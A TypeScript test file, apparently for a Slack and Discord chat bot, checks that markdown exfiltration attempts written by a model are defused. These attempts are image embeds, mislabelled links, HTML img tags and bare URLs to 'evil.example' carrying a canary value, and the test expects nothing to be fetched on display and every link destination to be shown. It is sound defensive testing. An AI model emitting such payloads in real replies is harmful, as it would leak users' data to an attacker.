import { describe, expect, it } from 'vitest';
import { isObject } from '../../src/threads/json-value.ts';
import { openInjectionWorld } from './support/injection-world.ts';

const EVIL = 'https://evil.example';

/** What a model writes that wants a word brought out, each in a way that readers of markdown know. */
const WRITTEN = [
  `![x](${EVIL}/i.png?q=canary-1)`,
  `![x][1] [the docs](${EVIL}/docs?q=canary-1)`,
  `[https://good.example](${EVIL}/lie?q=canary-1)`,
  `<img src="${EVIL}/tag?q=canary-1">`,
  `${EVIL}/bare?q=canary-1`,
];

/** What each platform is sent of it: no image, no preview, and no label without where its link leads. */
const SENT = {
  slack: [
    `[x] (${EVIL}/i.png?q=canary-1)`,
    `[x][1] [the docs](${EVIL}/docs?q=canary-1) (evil.example)`,
    `[https://good.example](${EVIL}/lie?q=canary-1) (evil.example)`,
    `<img src="${EVIL}/tag?q=canary-1">`,
    `${EVIL}/bare?q=canary-1`,
  ],
  discord: [
    `x (<${EVIL}/i.png?q=canary-1>)`,
    `![x][1] the docs (<${EVIL}/docs?q=canary-1>)`,
    `<https://good.example> (<${EVIL}/lie?q=canary-1>)`,
    `<img src="<${EVIL}/tag?q=canary-1>">`,
    `<${EVIL}/bare?q=canary-1>`,
  ],
} as const;

describe.each(['slack', 'discord'] as const)('what a model writes to bring a word out, on %s', (platform) => {
  it('fetches nothing by being shown, and shows where its links lead', async () => {
    const world = await openInjectionWorld(platform);
    const text = WRITTEN.map((words) => `SAY ${words}`).join('\n');
    await world.stage.begin('plain', { by: 'alice', isToBot: true, text });
    await world.rest();
    expect([world.stage.fetches(), world.stage.pings(), world.stage.problems]).toEqual([[], [], []]);
    expect(lastShown(world.stage.sent).split(/\n+/u)).toEqual(SENT[platform]);
  });
});

/** The last text that was sent to be drawn. */
function lastShown(sent: readonly unknown[]): string {
  const texts = sent.flatMap((call) => {
    const { args, body } = isObject(call) ? call : {};
    const message = isObject(args) ? args : isObject(body) ? body : {};
    const [block] = Array.isArray(message['blocks']) ? message['blocks'] : [];
    const text: unknown = isObject(block) && block['type'] === 'markdown' ? block['text'] : message['content'];
    return typeof text === 'string' && text.includes('canary-1') ? [text] : [];
  });
  return texts.at(-1) ?? '';
}
